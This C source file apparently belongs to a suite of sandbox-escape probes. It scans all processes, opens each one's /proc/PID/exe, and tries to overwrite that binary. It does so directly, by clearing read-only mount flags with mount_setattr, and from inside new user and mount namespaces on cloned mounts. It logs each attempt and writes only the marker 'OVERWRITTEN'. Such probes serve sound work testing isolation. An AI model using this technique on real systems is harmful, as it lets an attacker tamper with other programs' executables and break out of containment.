#define _GNU_SOURCE
#include "attacks.h"

#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif

static const char *log_path;
static struct stat own, self;

static int write_to(int program) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    int file = open(path, O_WRONLY | O_CLOEXEC);
    if (file < 0) return 0;
    ssize_t written = write(file, "OVERWRITTEN", 11);
    close(file);
    tell(log_path, "overwritten", written);
    return 1;
}

static void make_writable(int mount) {
    struct mount_attr attributes = {.attr_clr = MOUNT_ATTR_RDONLY};
    syscall(SYS_mount_setattr, mount, "", AT_EMPTY_PATH, &attributes, sizeof attributes);
}

/// The mount that the program is on, and a copy of it, made writable with the rights that a namespace gives.
static void write_by_mount(int program, int namespaces) {
    if (namespaces && unshare(namespaces) != 0) return;
    make_writable(program);
    if (write_to(program)) return;
    int copy = (int)syscall(SYS_open_tree, program, "", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_EMPTY_PATH);
    if (copy < 0) return;
    make_writable(copy);
    write_to(copy);
}

static void in_child(int program, int namespaces) {
    pid_t child = fork();
    if (child == 0) {
        write_by_mount(program, namespaces);
        _exit(0);
    }
    if (child > 0) waitpid(child, NULL, 0);
}

/// For as long as the process runs, the kernel refuses with ETXTBSY; so again, until it has ended.
static void attack(int process) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", process);
    int program = open(path, O_RDONLY | O_CLOEXEC);
    if (program < 0) return;
    struct stat status;
    if (fstat(program, &status) != 0 || status.st_ino == own.st_ino || status.st_ino == self.st_ino) {
        close(program);
        return;
    }
    tell(log_path, "caught", process);
    snprintf(path, sizeof path, "/proc/%d", process);
    for (int wait = 0; wait < 200 && access(path, F_OK) == 0; wait++) usleep(5000);
    if (!write_to(program)) {
        in_child(program, 0);
        in_child(program, CLONE_NEWUSER | CLONE_NEWNS);
    }
    tell(log_path, "tried", process);
    close(program);
}

int overwrite(const char *log, const char *own_program) {
    log_path = log;
    if (stat(own_program, &own) != 0 || stat("/proc/self/exe", &self) != 0) return 1;
    tell(log, "began", getpid());
    for (;;) {
        each_process(attack);
        while (waitpid(-1, NULL, WNOHANG) > 0) {
        }
    }
}
